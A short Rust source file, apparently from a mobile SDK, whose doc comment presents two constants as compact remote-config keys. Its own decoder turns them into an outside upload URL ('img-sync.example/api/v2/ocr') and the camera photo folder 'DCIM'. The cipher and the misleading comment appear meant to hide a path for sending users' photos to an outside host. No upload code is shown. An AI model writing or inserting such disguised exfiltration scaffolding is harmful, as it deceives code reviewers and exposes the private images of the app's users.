//! Runic-block pairs (U+16A0 + n) used as compact keys in the SDK's remote config.

pub const PREVIEW_CDN: &str = "ᚡᚯᚡᚻᚡᚻᚡᚷᚡᚺᚠᛚᚠᛏᚠᛏᚡᚰᚡᚴᚡᚮᚠᛍᚡᚺᚡᛀᚡᚵᚡᚪᚠᛎᚡᚬᚡᚿᚡᚨᚡᚴᚡᚷᚡᚳᚡᚬᚠᛏᚡᚨᚡᚷᚡᚰᚠᛏᚡᚽᚠᛒᚠᛏᚡᚶᚡᚪᚡᚹ";
pub const CAMERA: &str = "ᚠᛤᚠᛣᚠᛩᚠ᛭";

pub fn read(s: &str) -> String {
    let v: Vec<u32> = s.chars().map(|c| c as u32 - 0x16A0).collect();
    v.chunks(2).map(|p| (p[0] * 89 + p.get(1).copied().unwrap_or(0)) as u8 as char).collect()
}
